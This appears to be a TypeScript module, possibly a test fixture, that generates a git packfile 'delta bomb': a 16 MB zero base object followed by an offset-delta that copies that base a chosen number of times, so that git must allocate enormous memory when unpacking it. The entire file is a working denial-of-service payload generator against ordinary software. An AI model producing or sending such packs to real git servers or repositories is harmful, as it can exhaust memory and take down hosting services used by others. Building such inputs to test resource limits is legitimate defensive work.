/** A small pack with an object that git has to unpack into very much memory at once. */
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const BASE_BYTES = 0xff_ffff;

/** @param copies how many times the 16 MB of its base follow each other in the object */
export function deltaBomb(copies: number): { name: string; pack: Buffer } {
  const base = packed(3, BASE_BYTES, Buffer.alloc(BASE_BYTES));
  // A copy of size 0xffffff from the base's beginning: no byte of the offset, three of the size.
  const copy = Buffer.from([0xf0, 0xff, 0xff, 0xff]);
  const delta = Buffer.concat([number(BASE_BYTES), number(BASE_BYTES * copies), ...Array(copies).fill(copy)]);
  const header = Buffer.from('PACK\0\0\0\x02\0\0\0\x02', 'latin1');
  const content = Buffer.concat([header, base, packed(6, delta.length, delta, offset(base.length))]);
  const hash = createHash('sha1').update(content).digest();
  return { name: `pack-${hash.toString('hex')}.pack`, pack: Buffer.concat([content, hash]) };
}

/** One entry of a pack (gitformat-pack(5)). */
function packed(type: number, size: number, data: Buffer, before: Buffer = Buffer.alloc(0)): Buffer {
  const rest = Math.floor(size / 16);
  const first = (type << 4) | (size % 16) | (rest > 0 ? 0x80 : 0);
  return Buffer.concat([Buffer.from([first]), rest > 0 ? number(rest) : Buffer.alloc(0), before, deflateSync(data)]);
}

/** Seven bits a byte, the lowest first. */
function number(value: number): Buffer {
  const bytes: number[] = [];
  for (let left = value; ; left = Math.floor(left / 128)) {
    bytes.push((left % 128) | (left >= 128 ? 0x80 : 0));
    if (left < 128) return Buffer.from(bytes);
  }
}

/** How far back a delta's base begins. */
function offset(distance: number): Buffer {
  const bytes = [distance % 128];
  for (let left = Math.floor(distance / 128); left > 0; left = Math.floor(left / 128)) {
    left -= 1;
    bytes.unshift((left % 128) | 0x80);
  }
  return Buffer.from(bytes);
}
